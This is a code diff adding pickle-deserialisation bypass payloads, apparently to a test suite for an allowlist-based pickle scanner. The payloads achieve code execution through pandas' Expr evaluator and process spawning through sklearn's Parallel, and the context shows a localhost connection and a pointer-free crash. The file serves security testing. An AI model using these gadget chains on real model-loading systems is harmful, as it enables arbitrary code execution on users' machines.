@@ -184,6 +184,19 @@ def prefix_path_plot_backend_import(e: Env) -> bytes:
     return proto(4, frag(call) + b"0N")
 
 
+def prefix_path_pandas_expr_eval(e: Env) -> bytes:
+    # Arbitrary code. "pandas.core.computation." is excluded from the pandas prefix rule, but sklearn.utils.fixes
+    # imports pandas as pd: "sklearn.utils.fixes" + "pd.core.computation.expr.Expr" is admitted by the "sklearn."
+    # rule. Expr.__init__ parses *and evaluates* attribute chains and method calls (dunders included) in the scope
+    # it is given: g.__globals__ of an allowed Python function is a module's globals, here torch.serialization's,
+    # which hold ``os``.
+    scope = C(G("sklearn.utils.fixes", "pd.core.computation.scope.Scope"),
+              (0, {"g": G("torch.serialization", "_get_layout")}))
+    code = f"g.__globals__.get('os').open({str(e.marker)!r}, {os.O_CREAT | os.O_WRONLY})"
+    expr = C(G("sklearn.utils.fixes", "pd.core.computation.expr.Expr"), (code, "python", "python", scope))
+    return proto(4, frag(expr) + b"0N")
+
+
 def prefix_reexport_client(e: Env) -> bytes:
     # sklearn.callback._transport imports multiprocessing.connection.Client; the prefix rule admits the re-export.
     return proto(2, frag(C(G("sklearn.callback._transport", "Client"), (("127.0.0.1", e.port),))) + b"0N")
@@ -205,6 +218,17 @@ def prefix_lightgbm_dataset_free(e: Env) -> bytes:
     # free of an attacker-chosen pointer (here it only crashes the loading process).
     return proto(2, frag(C(G("copyreg", "__newobj__"), (G("lightgbm.sklearn", "Dataset"),),
                            {"_handle": 0x41414141, "used_indices": None})))
+
+
+def prefix_sklearn_parallel(e: Env) -> bytes:
+    # sklearn.utils.parallel.Parallel is defined in scikit-learn (joblib.Parallel's subclass): the prefix rule
+    # permits calling it and calling its instances. Parallel(n_jobs=2, temp_folder=<path>, max_nbytes=1)(tasks)
+    # starts two loky worker processes and creates its memmapping folder under the attacker's path.
+    cls = G("sklearn.utils.parallel", "Parallel")
+    kwargs = {"n_jobs": 2, "backend": "loky", "temp_folder": str(e.marker), "max_nbytes": 1}
+    parallel = C(C(G("functools", "partial"), (cls,), (cls, (), kwargs, None)), ())
+    tasks = [(G("numpy", "add"), (attacks.Raw(np.ones(64)), 1), {})]
+    return proto(2, frag(C(parallel, (tasks,))) + b"0N")
 
 
 @dataclass(frozen=True)
@@ -245,12 +269,17 @@ BYPASSES: dict[str, Bypass] = {
     "prefix-path-plot-backend-import": Bypass(prefix_path_plot_backend_import, ALL,
                                               "bypass: pandas.core prefix admits PlotAccessor: arbitrary module import",
                                               needs=("pandas",)),
+    "prefix-path-pandas-expr-eval": Bypass(prefix_path_pandas_expr_eval, ALL,
+                                           "bypass: sklearn.utils.fixes.pd.core.computation.expr.Expr runs code",
+                                           needs=("torch", "pandas")),
     "prefix-reexport-client": Bypass(prefix_reexport_client, ALL,
                                      "bypass: prefix rule admits re-exported multiprocessing Client (network)",
                                      effect="connect"),
     "prefix-scoring-monitor-setstate": Bypass(prefix_scoring_monitor_setstate, ALL,
                                               "bypass: sklearn ScoringMonitor.__setstate__ connects to an address",
                                               effect="connect"),
+    "prefix-sklearn-parallel": Bypass(prefix_sklearn_parallel, ALL,
+                                      "bypass: sklearn Parallel (prefix rule) spawns workers and mkdirs temp_folder"),
     "prefix-lightgbm-dataset-free": Bypass(prefix_lightgbm_dataset_free, ALL,
                                            "bypass: lightgbm.sklearn.Dataset.__del__ frees a pointer from the file",
                                            effect="crash", needs=("lightgbm",)),
